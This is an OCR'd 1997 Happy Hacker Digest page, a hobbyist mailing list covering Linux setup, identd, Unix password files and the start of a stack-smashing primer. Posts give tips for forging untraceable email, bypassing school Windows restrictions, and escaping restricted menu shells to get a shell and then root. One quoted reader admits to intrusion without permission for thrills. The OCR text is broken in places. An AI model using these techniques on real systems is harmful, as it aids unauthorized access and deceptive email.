What's New!

Chat with

How to Defend
Your Computer

The Guides
to (mostly)
Harmless Hacking

Happy Hacker
Digests (old stuff)

Hacker Links


Meet the
Happy Hacksters

Help for



It Sucks
to Be Me!

How to CommitComputer Crime (not)!

What Is a
Hacker, Anyhow?

Have a
Great Life!

News from the
Hacker War FrontCarolyn's most
popular book,
in 4th edition now!

For advanced
hacker studies,read Carolyn's
Google Groups
Subscribe to Happy Hacker
Visit this group

Happy Hacker Digest March 23-24 1997
      This is a moderated list for discussions of *legal* hacking.
               Moderators: Carolyn Meinel and Matt Hinze

            OR to the Hackers forum: http://www.infowar.com
Digest archives are held under the "New" button at the Infowar site

               Please don't send us anything you wouldn't
              email to your friendly neighborhood narc, OK?

        To subscribe or
unsubscribe, use the subscribe boxes on the menu bars, please..
If you decide you just want to use the forum and not get these
mailings, we promise our feelings won't get hurt if you unsubscribe
from this list.

                       H a p p y  h a c k i n g !

Table of Contents:
   o Linux Questions
   o Faking Email Headers
   o Identd?
   o Understanding Unix
   o Stack Busting
   o Windows Hacking
   o More MSIE Problems
   o Jinxing Web Browsers*** Linux Questions

   a friend and i discovered something. We were both in our linux
   and when i tried doing a finger, I'll show up with all the
   other users, but him. But if I did a who he will be on !!!. We
   use a Red Hat Linux release 4.0 (Colgate) Kernel 2.0.18, is
   this a bug ???  an exploit???  his login is rmartinez and by
   using who we'll see rmartinez if we finger
   rmartinez@blah.blah.blah we=B4ll see all his description
   apparently someone told us it was due to the fact that his
   username was too long so he could be authenticated but that
   linux won't consider it as a user.

   Can we get anything useful from this??


>From "prata@boss1.bossnt.com" <prata@cyber-wizard.com>

   | When i was interested in getting linux, i had the same problem.
   | I bought RedHat Linux Unleashed (from SAMS publishing). It is
   | bundled with a really nice linux cd thathas plenty of stuff on
   | it to get you started. It also comes with LILO (read: "lie low").
   | That's a boot system for linux that enables you to run multiple
   | OS's.
   | The book tells you how to set it all up.
   | You're going to need to partition your drive. In order not to
   | erase your 95 stuff, you have to use FIPS or another partitioning
   | utility. The book explains this all in detail. The point? Get
   | yourself a linux book and cd and just follow the instructions.


   Ok.  I was using Slackware (kernel 1.2.3).  It did not have a
   lot of the utilities that I wanted, such as pppd.  So I
   downloaded the full RedHat 4.0 distribution (about 80+ mb.)
   from Sunsite.  I downloaded the Root and Boot diskettes, and
   ran the installation.  I had a second partition set up. Half
   way thru the installation, I got a ton of error messages, so I
   shut down for the night.  When I tried to boot Windoze the
   next day to check my email, nobody home!!  (Redhat F***'d up
   my MBR!!)  I tried fdisk /mbr, but nothing worked.  I had to
   reinstall Windoze 95!  Fun!!  So, be careful !!



>From Technomancer <technomancer@netasia.net> (I have currently installed Slackware Linux at the office.  The
   installation went out fine but the problem I encountered was
   how am I going to connect to the internet and also to our LAN?
   I have used netconfig and IMHO, I was able to input the
   correct values.  Still if I try to ping our DNS, Linux says
   that the network is not reachable or something to that effect.
   I am using Ethernet 3Com 509 and I have another box using
   NE2000.  What should I do?  I've skimmed through Linux
   Unleashed and it assumes that we are connected properly.  I
   tried GNU Linux too but the same thing happens. Please help.
   Thanks in advance! :)

   *** Faking Email Headers

From: k1neTiK <samk5@IDT.NET>

   Subject: Email answers

   This is quite a long post, be warned.
   By reading this you are agreeing to the following:
   Any damage done to yourself with a large hammer is not
   k1neTiK's responsibility, nor will he particularly care.

   >Ed's note:
   >   You can't really cover your tracks in email. Your email header
   >   records the entire path it travels, all the way from the modem
   >   port you were logged on. Your sysadmin can check the logs and
   >   point you out. Of course, if you're really desperate, you can
   >   always hack into another account (dangerous!) and spoof that.
   >   There is another method, using web email and anonymizer.com but I
   >   haven't really checked if that is truly anonymous. I know of one
   >   instance that we need to make anonymous postings, e.g., you
   >   disagree with an opinion but are afraid to receive a
   >   violent/virulent retaliation from other parties.

   Covering your tracks becomes very easy with experience.Headers can be faked, just after typing DATA type the header
   info you want, and the real header will be added onto that.
   If your DNS is username@domain.com as opposed to
   username@ts-12.ppp-56.nyc.domain.com or something then it
   becomes much easier.  It even HELPS you to go to a computer
   that is running Ident. All you have to do is download an Ident
   Daemon, or use mIRC's, change your username to root in the
   daemon, and send the fakemail.

   Tips for sending fakemail:
   1. Use a big server, so it is harder to look at the logs.
   2. Fake the header, so that they can't trace your IP without
      great difficulty (it is much easier for someone to look at
      the first IP in the header, and trace that, then go through
      all the IPs in the header and trace all of them. ) it helps
      to use real domains and IPs.
   3. Fake Ident.
   4. Make sure it doesn't say "apparently from and apparently to" by
         a) using a real domain
         b) typing "from:(whoever)" and "to:(whoever)" after faking the
         header (you
      can give anything in the "from:", but if you give an Email
      address as opposed to a name, make sure its the same as you
      wrote in the "rcpt to:").
   5. Send yourself a copy first.

   When my school would not let us get to the Dos prompt when we
   were logged into Novell, I turned to two of the hackers most
   important resources, improvisation and more experienced
   hackers.  Doesyour school/business restrict your access to
   the Dos Prompt?  I am going toput on my web page
   (http://www.geocities.com/TimesSquare/Arcade/4594) a list of
   different ways to get into the Dos Prompt even when access is
   restricted, send your ways to "samk5@idt.net" unless otherwise
   specified in your Email, I will give credit where credit is
   due.  A little taste of what's to come.

   Your School/Business might have put certain restrictions on
   Windows which may shadow the RUN command and/or the NEW
   command, and may even remove the "file" menu completely.  My
   school had restricted access to everything besides removing
   the "file" menu, so of course, my first stop were the INI
   files.  Guess what I found?  Under Program.ini, there were two
   suspicious lines towards the bottom, which read:


   Usually in computer language 1 = true and 0 = false.  But the
   Editlevel was a different thing. I could have taken the easier
   way out and just put a colon in front of these lines, but I
   thought I would do something a little less conspicuous.  I
   changed "norun=1" to "norun=0" and "editlevel=4" to"editlevel=0" and lo and behold, next time I booted Windows it
   gave me all the options.

   *** Identd?

From: "Crazy J" <crazyj@earthlink.net>

   >When I am on mIRC once in a while I notice that I get this on my
   >server status window: *** Identd request from ***
   >Identd replied: 1145, 25 : USERID : UNIX : fifo ..is it that the
   >system wants 2 kno whu I am?.. what duz 1145, 25 mean?.. thanks

   First off under the identd tab you have show identd querys
   checked that's why you see that in the status window. Second if
   you want to know what it means and how it works you can read
   rfc1413 which outlines the Identification Protocol (Identd)
   and will tell you how it works and what it all means. Even so
   the 1145, 25 : USERID : UNIX : fifo  is the response to the
   server query 1145, 25, and means <port-on-server> ,
   <port-on-client> : <resp-type> : <add-info>. You can do a
   search for rfc1413 or if you want I have a copy on my site at


         Crazy J

   *** Understanding Unix

From: jojo.hamilton@hamptons.com

   In the March 9-12 HH, pete@servtech.com replied to a message with:

         > the *s mean that the passwords are shadowed, for better
         > security. (There have been other posts on that subject, so I
         > won't grind it into the ground.)

   I reply:

   Actually, the *'s mean the username is not implemented.
   Characters such as "x" or "!" mean that the password is

   Also, I am on a system running System V Release 4, set up with
   a menu system, consisting of Pine, ftp, lynx, telnet, yadda
   yadda yadda..  Basically, there are no shell accounts, no ftp
   access..and shadowed passwords. They use an Annex Command Line
   Interpreter that, upon login, sometimes drops you out of their
   menu (before connecting to the system), and lets youview who
   is on the nodes, what jobs are running, and the IP addresses
   of servers...

   My question is: how would one go about getting out of the menu
   system (ctrl-z is disabled within pine and others), and/or

techmafia speaks:
   There are two ways to do this.  First, create a file that
   contains the following:


   FTP it to your site, call it 'blah', make sure it is
   executable, (chmod +x blah  [from FTP if you cannot do it
   from a shell or a program available to you]), and then set
   your external editor to that.  Then whenyou run your external
   editor, BOOM.  You get a shell.

   As for root: get the shell first.  Then there are billions of
   ways to gain root.  Start surfing the net and look for new

techmafia falls silent.

   "Do you have written permission to break into..blah.." "No" I just
   want to do it for the sheer thrill of it, besides, why would I down a
   server that I depend on?


From: Timothy Ward <tbw@discordia.all-net.net>

   Shadow questions:

   Okie dokie. I've seen a lot of posts of late about shadowing,
   and not to deny anyone the information, but it's real
   annoying.  Shadowed system's are no fun. But even if you got
   the shadow'd file, chances are the people aren't lame and they
   have decent passwords.  (And even if they did use 'apple' for
   a password most likely it would probably be illegal to use it).
   So just as a little review:

   consider this /etc/passwd entry:

   root:ASisSDiejSmLOi:0:0:Charlie &:/root:/bin/bash
   ^^ <-- normal entry. Encrypted password stored along with everything

   Now, consider this one.

   root:*:0:0:Charlie &:/root:/bin/bash <--

   the * on a non shadowed system would disable the account whereas a *
   on a shadowed system means the encrypted password is stored somewhere
   else the accompanying shadow file looks like this:


   isn't life grand??

   As for the pwd.db a strings on the file yields :

   Brad Huges
   Discordia Login
   Discordia Login

   So as we can see its user information..

   I hope this helps a lil..

   *** Stack BustingFrom: bbuster@succeed.net (Bronc Buster)

   Stacks Dumps (aka Smashing the Stack)

   How do people write code that makes some normal Unix program
   crash and drop to a root shell? Most of this type of hacking
   is done with what, I'm sure a lot of you know, is called a
   "Stack Dump", or Smashing the Stack. Well what does this mean?
   Well I'm going to attempt to get you a "crash" course in Data
   Segments and Dynamic Memory Allocation. I know it sounds
   complex and some of you are already scrolling down, but I'm
   going to try, asusual, and put it into layman's terms.

   All computers that run an Intel 80x86, or Intel based
   microprocessor (Pentiums, AMD, Cyrex) divide memory into
   things called "segments".  These segments are of diffrent
   sizes depending on how each program was programmed, and how
   each allocates memory. There are Large, Medimum and Small
   "memory models", as they are called. For the sake of this I'm
   going to use the "Small memory model" which has 65,536 bytes
   allocated for the programs use. To get a better picture of
   what a Data Segment looks I'm making a diagram of a "Small
   memory model Data segment"

                   /-|---| <- 65,535 bytes
                   | |                 |
           Stack - | |                 |
                   \-|---| <- Movable Boundry
                   / |                 |
                   | |                 |
           Heap -  | |                 |
                   | |                 |
                   \-|---| <- Non-Movable Boundry
                   / |                 || |                 |
          Static - | |                 |
                   \-|---| <- 0 bytes

   Let's start at the bottem and work up. The static area at the
   bottom is for external and static variables. This is of a
